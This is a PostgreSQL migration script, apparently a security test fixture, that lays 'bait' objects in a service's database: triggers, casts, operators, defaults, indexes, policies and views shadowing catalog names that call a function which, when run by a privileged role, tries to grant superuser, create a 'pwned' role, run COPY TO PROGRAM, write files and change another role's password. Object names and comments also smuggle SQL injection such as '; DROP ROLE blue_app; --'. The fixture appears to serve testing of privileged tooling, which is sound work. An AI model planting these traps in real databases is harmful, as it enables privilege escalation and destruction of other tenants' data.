-- Bait that the owner of a service can lay in its own database by an ordinary migration. Each section begins with
-- `-- bait NAME`, perhaps with `since=MAJOR`; a line `-- spring: SQL` at its end runs the bait as the service itself, which
-- proves that the bait is armed. What a service's owner cannot make is in operator.sql; not at all: procedural
-- languages and their handlers, base types with functions in SQL (their input and output functions take cstring),
-- conversions with a function of its own (it takes cstring and internal), security labels (no provider is loaded),
-- event triggers, operator classes, foreign-data wrappers, casts without functions.

-- bait spring
CREATE SCHEMA bait;
CREATE TABLE bait.log (name text, login text, actor text);
-- Each run reaches the server's log, in read-only transactions too. A role with more power than red's is robbed of it.
CREATE FUNCTION bait.spring(bait text) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $spring$
DECLARE
  attempt text;
BEGIN
  RAISE LOG 'BAIT <%> <%> <%>', bait, session_user, current_user;
  IF EXISTS (SELECT FROM pg_catalog.pg_roles r WHERE (r.rolsuper OR r.rolcreaterole OR r.rolcreatedb)
             AND r.rolname IN (session_user, current_user)) THEN
    PERFORM pg_catalog.set_config('default_transaction_read_only', 'off', false);
    FOREACH attempt IN ARRAY ARRAY[
      'ALTER ROLE red_app SUPERUSER', 'ALTER ROLE red_app CREATEROLE CREATEDB', 'CREATE ROLE pwned LOGIN SUPERUSER',
      'CREATE ROLE pwned', 'COPY (SELECT 1) TO PROGRAM ''touch "@FOLDER@/program"''',
      'COPY (SELECT 1) TO ''@FOLDER@/file''', 'SELECT pg_catalog.lo_export(4711, ''@FOLDER@/large'')',
      'ALTER DATABASE blue_db OWNER TO red_owner', 'GRANT CONNECT ON DATABASE blue_db TO red_app',
      'ALTER ROLE blue_app PASSWORD ''stolen''', 'ALTER ROLE ALL SET search_path = public'] LOOP
      BEGIN EXECUTE attempt; EXCEPTION WHEN OTHERS THEN NULL; END;
    END LOOP;
  END IF;
  BEGIN INSERT INTO bait.log VALUES (bait, session_user, current_user); EXCEPTION WHEN OTHERS THEN NULL; END;
END $spring$;
-- The forms in which an expression can call it; wrongly IMMUTABLE, as an index wants it.
CREATE FUNCTION bait.yes(bait text) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS
  $$ BEGIN PERFORM bait.spring(bait); RETURN true; END $$;
CREATE FUNCTION bait.yes(bait text, anyelement) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS
  $$ BEGIN PERFORM bait.spring(bait); RETURN true; END $$;
CREATE FUNCTION bait.same(bait text, x anyelement) RETURNS anyelement IMMUTABLE LANGUAGE plpgsql AS
  $$ BEGIN PERFORM bait.spring(bait); RETURN x; END $$;
CREATE FUNCTION bait.fire() RETURNS trigger LANGUAGE plpgsql AS
  $$ BEGIN PERFORM bait.spring(TG_ARGV[0]); IF TG_OP = 'DELETE' THEN RETURN OLD; END IF; RETURN NEW; END $$;
-- spring: SELECT bait.spring('spring')

-- bait types
CREATE TYPE bait.mood AS ENUM ('a', 'b');
CREATE TYPE bait.pair AS (x int, y bait.mood);
CREATE DOMAIN bait.picky AS text DEFAULT 'x' CHECK (bait.yes('types', VALUE));
CREATE TYPE bait.span AS RANGE (subtype = bait.mood);
CREATE FUNCTION bait.distance(float8, float8) RETURNS float8 IMMUTABLE LANGUAGE plpgsql AS
  $$ BEGIN PERFORM bait.spring('range'); RETURN $1 OPERATOR(pg_catalog.-) $2; END $$;
CREATE TYPE bait.reach AS RANGE (subtype = float8, subtype_diff = bait.distance);
CREATE DOMAIN bait.moods AS bait.mood[] CHECK (bait.yes('types', 1));
-- spring: SELECT 'x'::bait.picky

-- bait cast
DO $do$
DECLARE
  source text;
  target text;
  name text;
  n int := 0;
BEGIN
  FOREACH source IN ARRAY ARRAY['bait.mood', 'bait.pair', 'bait.span', 'bait.reach', 'bait.mood[]', 'bait.pair[]'] LOOP
    FOREACH target IN ARRAY ARRAY['json', 'jsonb', 'text', 'name', 'oid', 'regclass', 'xml', 'boolean'] LOOP
      n := n + 1;
      name := 'bait.cast_' || n;
      EXECUTE format('CREATE FUNCTION %s(%s) RETURNS %s LANGUAGE plpgsql AS %L', name, source, target, format(
        'BEGIN PERFORM bait.spring(%L); RETURN %s; END', 'cast',
        CASE target WHEN 'json' THEN '''1''' WHEN 'jsonb' THEN '''1''' WHEN 'oid' THEN '1' WHEN 'regclass' THEN '1259'
                    WHEN 'boolean' THEN 'true' ELSE '''x''' END));
      EXECUTE format('CREATE CAST (%s AS %s) WITH FUNCTION %s(%s) %s', source, target, name, source,
        CASE WHEN target IN ('text', 'jsonb') THEN 'AS IMPLICIT' WHEN target = 'json' THEN 'AS ASSIGNMENT' ELSE '' END);
    END LOOP;
  END LOOP;
END $do$;
-- spring: SELECT 'a'::bait.mood::json

-- bait missing value
-- A default that is added later stands in pg_attribute.attmissingval, whose element type is this one.
CREATE TABLE public.missing (id int);
INSERT INTO public.missing VALUES (1);
ALTER TABLE public.missing ADD COLUMN mood bait.mood DEFAULT 'a', ADD COLUMN pair bait.pair DEFAULT ROW(1, 'a'),
  ADD COLUMN span bait.span DEFAULT '[a,b]', ADD COLUMN moods bait.mood[] DEFAULT '{a}';
-- And in pg_statistic stand arrays of it.
INSERT INTO public.missing (id, mood) SELECT g, 'b' FROM generate_series(1, 300) g;
ANALYZE public.missing;
-- spring: SELECT pg_catalog.to_jsonb(pg_catalog.array_agg(m.mood)) FROM public.missing m

-- bait check
CREATE TABLE public.checked (id int CHECK (bait.yes('check', id)), name text);
INSERT INTO public.checked VALUES (1, 'x');
ALTER TABLE public.checked ADD CONSTRAINT late CHECK (bait.yes('check', name)) NOT VALID;
-- spring: INSERT INTO public.checked VALUES (2)

-- bait generated column
CREATE TABLE public.generated (id int, twice int GENERATED ALWAYS AS (bait.same('generated column', id)) STORED);
INSERT INTO public.generated (id) VALUES (1);
-- spring: INSERT INTO public.generated (id) VALUES (2)

-- bait virtual column since=18
-- Functions of one's own are refused in virtual columns; a builtin one over a hostile table must do.
CREATE TABLE public.virtual (id int, twice int GENERATED ALWAYS AS (id * 2) VIRTUAL);

-- bait default
CREATE TABLE public.defaulted (id int DEFAULT bait.same('default', 1), other bait.picky);
-- spring: INSERT INTO public.defaulted DEFAULT VALUES

-- bait index
CREATE TABLE public.indexed (id int, name text);
INSERT INTO public.indexed SELECT g, 'x' FROM generate_series(1, 50) g;
CREATE INDEX indexed_expression ON public.indexed ((bait.same('index', id)));
CREATE INDEX indexed_predicate ON public.indexed (id) WHERE bait.yes('index', id);
-- spring: ANALYZE public.indexed

-- bait statistics since=14
CREATE STATISTICS public.expression ON (bait.same('statistics', id)) FROM public.indexed;
-- spring: ANALYZE public.indexed

-- bait exclusion
CREATE FUNCTION bait.clash(bait.reach, bait.reach) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS
  $$ BEGIN PERFORM bait.spring('exclusion'); RETURN false; END $$;
CREATE TABLE public.exclusive (id int, r bait.reach);
ALTER TABLE public.exclusive ADD CONSTRAINT alone
  EXCLUDE USING btree ((bait.same('exclusion', id)) WITH =) WHERE (bait.yes('exclusion', id));
-- spring: INSERT INTO public.exclusive VALUES (1)

-- bait trigger
CREATE TABLE public.triggered (id int);
CREATE TRIGGER row_before BEFORE INSERT OR UPDATE OR DELETE ON public.triggered
  FOR EACH ROW EXECUTE FUNCTION bait.fire('trigger');
CREATE TRIGGER statement_after AFTER INSERT OR UPDATE OR DELETE OR TRUNCATE ON public.triggered
  FOR EACH STATEMENT EXECUTE FUNCTION bait.fire('trigger');
CREATE CONSTRAINT TRIGGER late AFTER INSERT OR UPDATE OR DELETE ON public.triggered DEFERRABLE INITIALLY DEFERRED
  FOR EACH ROW EXECUTE FUNCTION bait.fire('constraint trigger');
ALTER TABLE public.triggered ENABLE ALWAYS TRIGGER row_before, ENABLE ALWAYS TRIGGER late;
-- spring: INSERT INTO public.triggered VALUES (1)

-- bait rule
CREATE TABLE public.ruled (id int);
CREATE RULE instead AS ON INSERT TO public.ruled DO INSTEAD SELECT bait.spring('rule');
CREATE RULE also AS ON UPDATE TO public.ruled DO ALSO SELECT bait.spring('rule');
CREATE RULE never AS ON DELETE TO public.ruled DO INSTEAD NOTHING;
-- spring: INSERT INTO public.ruled VALUES (1)

-- bait view
CREATE VIEW public.viewed AS SELECT bait.same('view', 1) AS x, current_user AS who;
CREATE MATERIALIZED VIEW public.stored AS SELECT bait.same('view', 1) AS x WITH NO DATA;
CREATE TABLE public.beneath (id int);
CREATE VIEW public.instead AS SELECT * FROM public.beneath;
CREATE TRIGGER instead INSTEAD OF INSERT ON public.instead FOR EACH ROW EXECUTE FUNCTION bait.fire('view');
-- spring: SELECT * FROM public.viewed

-- bait policy
CREATE TABLE public.policed (id int);
ALTER TABLE public.policed ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
CREATE POLICY everyone ON public.policed USING (bait.yes('policy', id)) WITH CHECK (bait.yes('policy', id));
INSERT INTO public.policed VALUES (1);
-- spring: SELECT * FROM public.policed

-- bait partition
CREATE TABLE public.parted (id int) PARTITION BY RANGE ((bait.same('partition', id)));
CREATE TABLE public.part_one PARTITION OF public.parted FOR VALUES FROM (0) TO (100);
CREATE TABLE public.part_rest PARTITION OF public.parted DEFAULT;
-- spring: INSERT INTO public.parted VALUES (1)

-- bait inheritance
CREATE TABLE public.child () INHERITS (public.checked, public.triggered);
CREATE TABLE public.typed OF bait.pair;

-- bait routine
CREATE FUNCTION public.definer(x int DEFAULT bait.same('routine', 1)) RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS
  $$ BEGIN PERFORM bait.spring('routine'); RETURN x; END $$;
CREATE PROCEDURE public.procedure() LANGUAGE plpgsql AS $$ BEGIN PERFORM bait.spring('routine'); END $$;
CREATE FUNCTION public.supported(int) RETURNS int LANGUAGE sql SET search_path = public, pg_catalog AS
  'SELECT bait.same(''routine'', $1)';
-- spring: SELECT public.definer()

-- bait aggregate
CREATE FUNCTION bait.step(bigint, int) RETURNS bigint LANGUAGE plpgsql AS
  $$ BEGIN PERFORM bait.spring('aggregate'); RETURN 1; END $$;
CREATE AGGREGATE public.total(int) (SFUNC = bait.step, STYPE = bigint, INITCOND = '0');
-- spring: SELECT public.total(1)

-- bait operator
-- With the operand types that questions to the catalogs have, and a better match than the server's own.
DO $do$
DECLARE
  pair record;
  operator text;
  place text;
  n int := 0;
BEGIN
  FOREACH place IN ARRAY ARRAY['public', 'bait'] LOOP
    FOR pair IN SELECT * FROM (VALUES ('name', 'text'), ('name', 'name'), ('text', 'text'), ('text', 'name'), ('oid', 'oid'),
        ('oid', 'int4'), ('"char"', '"char"'), ('"char"', 'text'), ('aclitem', 'aclitem'), ('name[]', 'name[]'), ('jsonb', 'name'),
        ('int4', 'int4'), ('regclass', 'oid'), ('oid', 'regclass'), ('varchar', 'varchar'), ('name', 'varchar')) v(l, r) LOOP
      FOREACH operator IN ARRAY ARRAY['=', '<>', '||', '~', '~~', '->>', '->', '@>', '>=', '<'] LOOP
        -- The first place is on the path, the second only on paths that a login sets for itself.
        CONTINUE WHEN place = 'bait' AND operator <> '=';
        n := n + 1;
        EXECUTE format('CREATE FUNCTION bait.operator_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L', n, pair.l, pair.r,
          CASE WHEN operator IN ('||', '->>', '->') THEN 'text' ELSE 'boolean' END,
          'BEGIN PERFORM bait.spring(''operator''); RETURN NULL; END');
        EXECUTE format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = bait.operator_%s)', place, operator,
          pair.l, pair.r, n);
      END LOOP;
    END LOOP;
  END LOOP;
END $do$;
-- spring: SELECT 'x'::name OPERATOR(public.=) 'x'::text

-- bait function
DO $do$
DECLARE
  f record;
  place text;
BEGIN
  FOREACH place IN ARRAY ARRAY['public', 'bait'] LOOP
    FOR f IN SELECT * FROM (VALUES
        ('pg_get_userbyid', 'oid', 'name'), ('format', 'text, name, name', 'text'), ('format', 'text, name', 'text'),
        ('format', 'text', 'text'), ('quote_ident', 'name', 'text'), ('quote_ident', 'text', 'text'), ('quote_literal', 'name', 'text'),
        ('has_database_privilege', 'name, name, text', 'boolean'), ('has_schema_privilege', 'name, name, text', 'boolean'),
        ('has_table_privilege', 'name, oid, text', 'boolean'), ('has_table_privilege', 'text, text', 'boolean'),
        ('pg_has_role', 'name, name, text', 'boolean'), ('pg_advisory_lock', 'int, int', 'void'),
        ('pg_try_advisory_lock', 'int, int', 'boolean'), ('pg_advisory_unlock', 'int, int', 'boolean'),
        ('pg_advisory_xact_lock', 'int, int', 'void'), ('aclexplode', 'aclitem[]', 'SETOF record'),
        ('acldefault', '"char", oid', 'aclitem[]'), ('left', 'name, int', 'text'), ('lower', 'name', 'text'), ('lower', 'text', 'text'),
        ('unnest', 'aclitem[]', 'SETOF aclitem'), ('unnest', 'text[]', 'SETOF text'), ('unnest', 'oid[]', 'SETOF oid'),
        ('pg_stat_get_activity', 'text', 'SETOF pg_catalog.pg_stat_activity'), ('to_jsonb', 'pg_catalog.pg_attribute', 'jsonb'),
        ('to_jsonb', 'pg_catalog.pg_auth_members', 'jsonb'), ('to_jsonb', 'pg_catalog.pg_proc', 'jsonb'),
        ('jsonb_build_object', 'text, text', 'jsonb'), ('current_setting', 'text', 'text'), ('current_setting', 'text, boolean', 'text'),
        ('set_config', 'text, text, boolean', 'text'), ('pg_terminate_backend', 'int', 'boolean'),
        ('pg_describe_object', 'oid, oid, int', 'text'), ('pg_identify_object', 'oid, oid, int', 'text'),
        ('format_type', 'oid, int', 'text'), ('pg_get_expr', 'pg_node_tree, oid', 'text'), ('obj_description', 'oid, name', 'text'),
        ('shobj_description', 'oid, name', 'text'), ('concat_ws', 'text, text, text', 'text'), ('starts_with', 'name, text', 'boolean'),
        ('current_database', '', 'name'), ('pg_backend_pid', '', 'int'), ('version', '', 'text'), ('now', '', 'timestamptz'),
        ('pg_get_functiondef', 'oid', 'text'), ('pg_get_indexdef', 'oid', 'text'), ('pg_get_constraintdef', 'oid', 'text'),
        ('to_char', 'timestamptz, text', 'text'), ('encode', 'bytea, text', 'text'), ('sha256', 'bytea', 'bytea'),
        ('substring', 'text, text', 'text'), ('array_to_string', 'text[], text', 'text'), ('pg_is_in_recovery', '', 'boolean'),
        ('pg_database_size', 'oid', 'bigint'), ('pg_database_size', 'name', 'bigint'), ('to_regclass', 'text', 'regclass'))
        v(name, arguments, returns) LOOP
      CONTINUE WHEN place = 'bait' AND f.name NOT IN ('pg_get_userbyid', 'format', 'current_setting', 'to_regclass');
      EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', place, f.name, f.arguments, f.returns,
        CASE WHEN f.returns LIKE 'SETOF%' THEN 'BEGIN PERFORM bait.spring(''function''); RETURN; END'
             WHEN f.returns = 'void' THEN 'BEGIN PERFORM bait.spring(''function''); END'
             ELSE 'BEGIN PERFORM bait.spring(''function''); RETURN NULL; END' END);
    END LOOP;
    FOR f IN SELECT * FROM (VALUES ('count', 'oid'), ('count', 'name'), ('count', 'text'), ('jsonb_agg', 'jsonb'), ('jsonb_agg', 'name'),
        ('jsonb_agg', 'text'), ('string_agg', 'name, text'), ('array_agg', 'name'), ('array_agg', 'text'), ('max', 'bigint'),
        ('bool_or', 'boolean'), ('jsonb_object_agg', 'name, jsonb')) v(name, arguments) LOOP
      CONTINUE WHEN place = 'bait' AND f.name <> 'count';
      EXECUTE format('CREATE FUNCTION %I.%I(text, %s) RETURNS text LANGUAGE plpgsql AS %L', place, 'step_' || f.name,
        f.arguments, 'BEGIN PERFORM bait.spring(''function''); RETURN NULL; END');
      EXECUTE format('CREATE AGGREGATE %I.%I(%s) (SFUNC = %I.%I, STYPE = text)', place, f.name, f.arguments, place,
        'step_' || f.name);
    END LOOP;
  END LOOP;
END $do$;
-- spring: SELECT public.count('x'::name)

-- bait catalog
DO $do$
DECLARE
  relation text;
  place text;
BEGIN
  FOREACH place IN ARRAY ARRAY['public', 'bait'] LOOP
    FOREACH relation IN ARRAY ARRAY['pg_class', 'pg_roles', 'pg_proc', 'pg_locks', 'pg_stat_activity', 'pg_database', 'pg_namespace',
        'pg_type', 'pg_attribute', 'pg_depend', 'pg_shdepend', 'pg_settings', 'pg_extension', 'pg_auth_members', 'pg_description',
        'pg_db_role_setting', 'pg_default_acl', 'pg_user', 'pg_tables', 'pg_policy', 'pg_trigger', 'pg_index'] LOOP
      EXECUTE format('CREATE VIEW %I.%I AS SELECT %s, bait.yes(%L) AS bait FROM pg_catalog.%I c', place, relation,
        -- A view has no column of type anyarray.
        CASE relation WHEN 'pg_attribute' THEN 'attrelid, attname, attnum, atttypid' ELSE 'c.*' END, 'catalog', relation);
    END LOOP;
  END LOOP;
END $do$;
-- spring: SELECT count(*) FROM public.pg_roles WHERE bait

-- bait search
CREATE TEXT SEARCH DICTIONARY public.simple (TEMPLATE = pg_catalog.simple);
CREATE TEXT SEARCH CONFIGURATION public.english (COPY = pg_catalog.simple);
CREATE COLLATION public."default" FROM pg_catalog."C";
CREATE COLLATION public."C" FROM pg_catalog."POSIX";
CREATE DEFAULT CONVERSION public.latin FOR 'LATIN1' TO 'UTF8' FROM pg_catalog.iso8859_1_to_utf8;
CREATE DEFAULT CONVERSION public.utf8 FOR 'UTF8' TO 'LATIN1' FROM pg_catalog.utf8_to_iso8859_1;

-- bait publication
CREATE PUBLICATION everything FOR TABLE public.checked, public.triggered;

-- bait large object
SELECT pg_catalog.lo_create(4711);
SELECT pg_catalog.lo_put(4711, 0, 'bait');
COMMENT ON LARGE OBJECT 4711 IS '''; DROP ROLE blue_app; --';

-- bait name
CREATE SCHEMA "x""; DROP ROLE blue_app; --";
CREATE TABLE "x""; DROP ROLE blue_app; --"."'; ALTER ROLE red_app SUPERUSER; --" ("a""b" int, "line
break" bait.picky);
CREATE FUNCTION public."f(int); ALTER ROLE red_app SUPERUSER; --"(int) RETURNS int LANGUAGE sql AS 'SELECT 1';
CREATE TYPE public."t' || bait.spring('name') || '" AS ENUM ('''; DROP ROLE blue_app; --');
CREATE FUNCTION public.odd("x""; DROP ROLE blue_app; --"."'; ALTER ROLE red_app SUPERUSER; --",
  public."t' || bait.spring('name') || '") RETURNS int LANGUAGE sql AS 'SELECT 1';
CREATE FUNCTION bait.named(public."t' || bait.spring('name') || '", int) RETURNS int LANGUAGE sql AS 'SELECT 1';
CREATE OPERATOR public.### (LEFTARG = public."t' || bait.spring('name') || '", RIGHTARG = int, FUNCTION = bait.named);
COMMENT ON TABLE public.checked IS E'\x1b[31m\n hint: \'; ALTER ROLE red_app SUPERUSER; --';

-- bait extension
CREATE EXTENSION hstore SCHEMA bait;
CREATE TABLE public.member (id int);
CREATE INDEX member_expression ON public.member ((bait.same('extension', id)));
INSERT INTO public.member VALUES (1);
CREATE FUNCTION public.member() RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS
  $$ BEGIN PERFORM bait.spring('extension'); RETURN 1; END $$;
CREATE VIEW public.member_view AS SELECT bait.same('extension', 1) AS x;
CREATE TYPE public.member_type AS ENUM ('a');
ALTER EXTENSION hstore ADD TABLE public.member;
ALTER EXTENSION hstore ADD FUNCTION public.member();
ALTER EXTENSION hstore ADD VIEW public.member_view;
ALTER EXTENSION hstore ADD TYPE public.member_type;
-- spring: SELECT public.member()

-- bait acl
-- The extension's own functions bring a warning each.
SET LOCAL client_min_messages = error;
GRANT USAGE ON SCHEMA bait, public TO PUBLIC;
GRANT SELECT ON public.checked TO blue_app WITH GRANT OPTION;
GRANT ALL ON public.triggered TO PUBLIC;
GRANT SELECT (id) ON public.ruled TO blue_ro;
GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA bait, public TO PUBLIC;
GRANT EXECUTE ON FUNCTION public.odd("x""; DROP ROLE blue_app; --"."'; ALTER ROLE red_app SUPERUSER; --",
  public."t' || bait.spring('name') || '") TO blue_app WITH GRANT OPTION;
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO blue_app;
ALTER DEFAULT PRIVILEGES IN SCHEMA bait GRANT ALL ON FUNCTIONS TO PUBLIC;
